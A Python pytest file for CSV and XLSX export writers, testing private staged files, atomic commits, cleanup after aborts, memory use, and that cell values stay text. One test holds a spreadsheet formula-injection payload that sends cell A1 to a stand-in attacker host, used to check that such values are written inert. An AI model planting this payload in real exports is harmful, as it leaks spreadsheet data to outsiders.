"""The streaming writers: staged beside the destination, owner-only, text stays text."""

from __future__ import annotations

import enum
import gc
import re
import stat
import tempfile
import tracemalloc
from pathlib import Path

import pytest
from openpyxl import load_workbook

from screening.export.writers import CsvWriter, XlsxWriter

COLUMNS = ("case_code", "place", "count")


class Level(enum.IntEnum):
    FIVE = 5


@pytest.fixture
def system_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "system-tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def test_xlsx_rows_sheets_and_private_staging(tmp_path: Path, system_tmp: Path) -> None:
    out = tmp_path / "out" / "export.xlsx"
    out.parent.mkdir()
    writer = XlsxWriter(out, COLUMNS)
    staged = out.with_name("export.xlsx.partial")
    assert stat.S_IMODE(staged.stat().st_mode) == 0o600
    assert sorted(p.name for p in out.parent.iterdir()) == ["export.xlsx.partial"]
    for i in range(300):
        writer.write([f"C-{i}", "Lampedusa", i])
    writer.add_sheet(
        "about",
        [["k achieved", Level.FIVE], ["note", None, "third"], [True, 2.5], [float("nan")]],
    )
    writer.commit()
    assert sorted(p.name for p in out.parent.iterdir()) == ["export.xlsx"]
    assert list(system_tmp.iterdir()) == []
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    book = load_workbook(out, read_only=True)
    rows = list(book["export"].iter_rows(values_only=True))
    assert rows[0] == COLUMNS and len(rows) == 301
    assert rows[1] == ("C-0", "Lampedusa", 0) and rows[-1] == ("C-299", "Lampedusa", 299)
    assert list(book["about"].iter_rows(values_only=True)) == [
        ("k achieved", 5),
        ("note", None, "third"),
        (True, 2.5),
        ("nan",),  # not a number Excel knows: written as text
    ]
    book.close()
    assert load_workbook(out)["export"].freeze_panes == "A2"


def excel_text(value: str) -> str:
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def test_xlsx_strings_stay_text(tmp_path: Path) -> None:
    """A value from a vault that looks like a formula, number or link is written as text."""
    out = tmp_path / "export.xlsx"
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+2",
        "0012",
        "https://x.example",
        "<b>&amp;</b> _x0041_ bell\x07 ok",
    ]
    writer = XlsxWriter(out, ("a", "b", "c", "d", "e"))
    writer.write(hostile)
    writer.commit()
    sheet = load_workbook(out)["export"]
    (cells,) = sheet.iter_rows(min_row=2, max_row=2)
    # Control characters cannot be in XML: SpreadsheetML writes them as _xHHHH_, which Excel
    # reads back (openpyxl does not, so the test does it as Excel would).
    assert [excel_text(c.value) for c in cells] == hostile
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.hyperlink is None for c in cells)


def test_xlsx_abort_and_leftovers_leave_nothing(tmp_path: Path, system_tmp: Path) -> None:
    out = tmp_path / "export.xlsx"
    # What a crashed export left: a staged file, readable by others.
    leftover = out.with_name("export.xlsx.partial")
    leftover.write_bytes(b"old")
    leftover.chmod(0o644)
    writer = XlsxWriter(out, COLUMNS)
    assert stat.S_IMODE(leftover.stat().st_mode) == 0o600
    writer.write(["C-1", "Ceuta", 1])
    writer.abort()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["system-tmp"]
    assert list(system_tmp.iterdir()) == []


def _peak(out: Path, rows: int) -> int:
    gc.collect()
    tracemalloc.start()
    try:
        writer = XlsxWriter(out, COLUMNS)
        for i in range(rows):
            writer.write([f"C-{i:06d}", "Evros reception 12", i])
        writer.commit()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_xlsx_memory_does_not_grow_with_rows(tmp_path: Path) -> None:
    _peak(tmp_path / "warm.xlsx", 10)  # imports first
    small = _peak(tmp_path / "small.xlsx", 2_000)
    large = _peak(tmp_path / "large.xlsx", 20_000)
    assert large < 1.5 * small + 256 * 1024, (small, large)


def test_csv_staged_then_renamed(tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    writer = CsvWriter(out, COLUMNS)
    writer.write(["C-1", "Ceuta", 1])
    assert not out.exists()
    writer.commit()
    assert out.read_text(encoding="utf-8") == "case_code,place,count\nC-1,Ceuta,1\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]
